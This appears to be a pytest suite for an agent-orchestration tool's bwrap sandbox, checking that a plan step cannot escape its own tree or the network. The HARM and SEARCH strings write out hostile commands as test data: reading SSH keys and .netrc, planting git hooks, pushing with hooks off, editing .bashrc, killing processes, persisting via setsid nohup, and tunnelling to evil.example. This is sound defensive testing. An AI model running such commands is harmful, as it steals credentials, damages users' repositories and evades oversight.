"""A musician behind its wall tries to get out (D36).

Its step is a script, as an agent that means harm would leave one: no reader of commands sees what it does.
"""

import os
import signal
import subprocess
import threading
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from musician.processes.sandbox import why_no_sandbox
from tests.needs import need
from tests.runtime.conftest import Stage
from tests.runtime.test_merging import clash, play_second_after_first
from tests.transcripts import said_in

pytestmark = pytest.mark.deep

PLAN = """\
---
plan: p
test: "{test}"
sandbox: required
{front}---
# P
## Phase 1: A
### task-01: T
#### Step 1: S
```bash run
{step}
```
"""

HARM = r"""
try() { echo "TRIED $1"; shift; if "$@"; then echo GOT OUT; fi; }
try reset git -C "$MUSICIAN_ROOT" reset -q --hard HEAD~1
try branch git -C "$MUSICIAN_ROOT" branch -f main HEAD~1
try config git config user.email evil@example.org
try hook cp /bin/true "$(git rev-parse --git-common-dir)/hooks/post-commit"
try head git switch -q -c aside
try pointer sh -c 'echo gitdir: /elsewhere > .git'
try database sh -c 'echo broken > "$MUSICIAN_DB"'
try push git -c core.hooksPath=/dev/null push -q --no-verify "$REMOTE" HEAD:refs/heads/stolen
try key cat "$HOME/.ssh/id_ed25519"
try login cat "$HOME/.netrc"
try agent test -n "${SSH_AUTH_SOCK-}"
try home sh -c 'echo evil >> "$HOME/.bashrc"'
try process kill -9 "$VICTIM"
try temporary ls "$TMPDIR"/seen-outside
echo work > b.txt; git add b.txt; git status > /dev/null
python3 -c "import tempfile; tempfile.mkstemp()"
"""


@pytest.fixture(autouse=True)
def _needs_a_sandbox() -> None:
    need("bwrap")
    if why_no_sandbox():
        pytest.skip(f"this machine lets nobody: {why_no_sandbox()}")  # nothing to install


@pytest.fixture
def victim() -> Iterator[subprocess.Popen[bytes]]:
    with subprocess.Popen(["sleep", "1000"]) as process:
        yield process
        process.kill()


def test_what_is_outside_the_own_tree_stands(stage: Stage, victim: subprocess.Popen[bytes]) -> None:
    """D36.4: reset of another tree, database, push by a script, credentials, processes: without effect, told."""
    remote = stage.hall / "remote.git"
    subprocess.run(["git", "init", "-q", "--bare", str(remote)], check=True)
    home = Path(stage.env["HOME"])
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text("secret\n")
    (home / ".netrc").write_text("secret\n")
    (home / ".bashrc").write_text("mine\n")
    stage.env.update(REMOTE=str(remote), VICTIM=str(victim.pid), SSH_AUTH_SOCK="/nowhere/agent")
    stage.write(PLAN.format(test="cat b.txt; echo x > $HOME/.bashrc || true", step=HARM, front=""))
    (stage.root / "more.txt").write_text("more\n")
    stage.git("add", "-A")
    stage.git("commit", "-qm", "more")
    config = (stage.root / ".git" / "config").read_text()
    ran = stage.conduct()
    assert ran.code == 0, (ran, stage.told())
    said = said_in(stage.root, "task-01")
    assert said.count("TRIED ") == HARM.count("\ntry ")
    assert "GOT OUT" not in said
    assert "secret" not in said
    assert "Read-only file system" in said
    assert stage.states() == {"task-01": "complete"}
    assert stage.merged("b.txt") == "work\n"
    assert "more" in stage.git("log", "--format=%s").splitlines()
    assert (stage.root / "more.txt").exists()
    assert (stage.root / ".git" / "config").read_text() == config
    assert (home / ".bashrc").read_text() == "mine\n"
    assert victim.poll() is None
    assert not subprocess.run(["git", "-C", str(remote), "branch"], capture_output=True, check=True).stdout


def test_nothing_of_a_sandbox_runs_on(stage: Stage) -> None:
    """D36.4: what a step leaves behind in the background ends with its session, by whatever it escaped."""
    long = f"1000000.{os.getpid()}"
    stage.write(
        PLAN.format(
            test="true", front="", step=f"setsid nohup sleep {long} > /dev/null 2>&1 &\necho work > b.txt"
        )
    )
    assert stage.conduct().code == 0, stage.told()
    listed = subprocess.run(["ps", "-eo", "pid,args"], capture_output=True, text=True, check=True).stdout
    left = [line for line in listed.splitlines() if line.endswith(f"sleep {long}")]
    for line in left:
        os.kill(int(line.split()[0]), signal.SIGKILL)
    assert not left


def test_a_plan_opens_what_a_task_needs_and_closes_the_network(stage: Stage) -> None:
    """D36.4: ``sandbox-write``, ``sandbox-read`` and ``network: none``."""
    home = Path(stage.env["HOME"])
    (home / ".docker").mkdir(parents=True)
    (home / ".docker" / "config.json").write_text("shown\n")
    store = stage.hall / "store"
    store.mkdir()
    stage.write(
        PLAN.format(
            test="true",
            front=f"network: none\nsandbox-write: [{store}]\nsandbox-read: [{home}/.docker]\n",
            step=f"cp {home}/.docker/config.json {store}/kept\n"
            "grep -c : /proc/net/dev > b.txt  # the loopback alone",
        )
    )
    assert stage.conduct().code == 0, stage.told()
    assert (store / "kept").read_text() == "shown\n"
    assert stage.merged("b.txt") == "1\n"


SEARCH = r"""
cat > ask.py <<'END'
import os, socket, sys, urllib.request
def ask(what, work):
    try:
        print(what, work())
    except OSError as error:
        print(what, "refused", error)
def direct(kind=socket.SOCK_STREAM):
    with socket.socket(type=kind) as wire:
        wire.connect(("10.255.255.1", 80))
        wire.send(b"?")
        return "GOT OUT"
def tunnelled(host):
    with socket.create_connection(("127.0.0.1", 61080)) as wire:
        wire.sendall(f"CONNECT {host} HTTP/1.1\r\n\r\n".encode())
        return wire.recv(100).split()[1].decode()
ask("registry", lambda: urllib.request.urlopen(f"http://localhost:{sys.argv[1]}/").read())
ask("plain", lambda: urllib.request.urlopen("http://pypi.org/").read())
ask("other", lambda: tunnelled("evil.example:443"))
ask("unnamed", lambda: tunnelled(f"localhost:{sys.argv[2]}"))
ask("there", lambda: socket.create_connection(("127.0.0.1", int(sys.argv[2]))))
ask("tcp", direct)
ask("udp", lambda: direct(socket.SOCK_DGRAM))
ask("names", lambda: socket.getaddrinfo("pypi.org", 443))
END
python3 ask.py {named} {unnamed} > b.txt
rm ask.py
sh -c 'kill -PIPE $$' || test $? = 141
"""


def test_a_plan_closes_the_network_but_for_registries(stage: Stage) -> None:
    """D36.5: what a task's programs see of the network, by whatever they try; the log tells what was refused."""
    with ExitStack() as stack:
        named, unnamed = (stack.enter_context(registry()) for _ in range(2))
        step = SEARCH.replace("{named}", str(named)).replace("{unnamed}", str(unnamed))
        front = f"network: registries\nreach: [localhost:{named}]\n"
        stage.write(PLAN.format(test="grep -q refused b.txt", front=front, step=step))
        assert stage.conduct().code == 0, stage.told()
    found = dict(line.split(" ", 1) for line in stage.merged("b.txt").splitlines())
    assert found.pop("registry") == "b'a package'"
    assert found.pop("other") == "403"
    assert found.pop("unnamed") == "403"
    assert {what: told.split()[0] for what, told in found.items()} == dict.fromkeys(
        ("plain", "there", "tcp", "udp", "names"), "refused"
    )
    log = (stage.root / ".musician" / "logs" / "task-01" / "network.log").read_text()
    assert [line.split()[1:3] for line in log.splitlines()] == [
        ["GET", "http://pypi.org/"],
        ["CONNECT", "evil.example:443"],
        ["CONNECT", f"localhost:{unnamed}"],
    ]


@contextmanager
def registry() -> Iterator[int]:
    class Packages(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"a package")

        def log_message(self, *_: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Packages) as server:
        threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
        yield server.server_address[1]
        server.shutdown()


def test_a_conflict_is_resolved_as_its_text_says(stage: Stage) -> None:
    """D36.4: the merge that is begun is resolved and staged in the sandbox, where nothing can be committed."""
    resolve = (
        'grep -q "The program commits" <<< "$MUSICIAN_FEEDBACK"\n'
        "grep -q '^=======' song.txt\n"
        "printf 'one\\ntwo\\n' > song.txt; git add song.txt\n"
        "! git commit -qm mine"
    )
    plan = clash(stage.gate("second"), rework=resolve)
    stage.write(plan.replace("plan: pair", f"plan: pair\nsandbox: required\nsandbox-write: [{stage.hall}]"))
    assert play_second_after_first(stage) == 0, stage.told()
    assert stage.merged("song.txt") == "one\ntwo\n"


def test_where_there_can_be_none_the_task_waits_for_a_person(stage: Stage, tmp_path: Path) -> None:
    """D36.4: ``sandbox: required`` refuses the start, with the reason, and plays nothing."""
    broken = tmp_path / "bin" / "bwrap"
    broken.parent.mkdir()
    broken.write_text("#!/bin/sh\necho 'no permission for a namespace' >&2\nexit 1\n")
    broken.chmod(0o755)
    stage.env["PATH"] = f"{broken.parent}{os.pathsep}{stage.env['PATH']}"
    stage.write(PLAN.format(test="true", step="echo work > b.txt", front=""))
    ran = stage.conduct()
    assert ran.code == 1, ran
    assert "no permission for a namespace" in ran.out + ran.err + stage.told()
    assert stage.states() != {"task-01": "complete"}
